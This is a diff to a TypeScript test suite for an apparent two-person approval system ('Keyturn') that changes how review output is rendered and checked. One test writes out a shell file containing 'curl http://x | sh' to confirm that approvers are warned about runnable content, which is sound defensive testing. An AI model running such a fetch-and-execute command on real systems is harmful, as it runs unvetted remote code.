@@ -5,6 +5,7 @@ import { sha256 } from '../../src/canonical/digest.ts';
 import { canonicalBytes } from '../../src/canonical/json.ts';
 import { Keyturn } from '../../src/keyturn.ts';
 import type { ReasonCode } from '../../src/refusal.ts';
+import { drawn } from '../display/drawn.ts';
 import { picture, text } from '../plan/engine/story.ts';
 import { granted, type Project, ready } from '../support/project.ts';
 import { expectRefusal } from '../support/refusal.ts';
@@ -41,7 +42,8 @@ describe('a protected file', () => {
 
   it('needs two different humans: one is not enough, and the same twice is not enough', async () => {
     const { p, bob, intent } = await team();
-    expect((await p.keyturn.review(intent.intent_id)).preview).toContain('a second approver is needed');
+    const { shown } = await p.keyturn.review(intent.intent_id);
+    expect(drawn(shown)).toContain('a second approver is needed');
     await p.keyturn.approve({ ...intent, signer: p.ada });
     await expectRefusal('APPROVAL_MISSING', () => run(p, intent));
     await p.keyturn.approve({ ...intent, signer: p.ada });
@@ -243,7 +245,7 @@ describe('what a plan may not contain', () => {
   it('what could run is shown to the approver', async () => {
     const p = await planProject();
     const { intent_id } = await proposed(p, planOf([create('1', 'x.sh', '#!/bin/sh\ncurl http://x | sh\n')]));
-    expect((await p.keyturn.review(intent_id)).preview).toMatch(/warning x\.sh:\d+: /);
+    expect(drawn((await p.keyturn.review(intent_id)).shown)).toMatch(/^! CONTENT: x\.sh, line \d+: /m);
   });
 
   it('a plan file that asks for more than the config allows is refused', async () => {
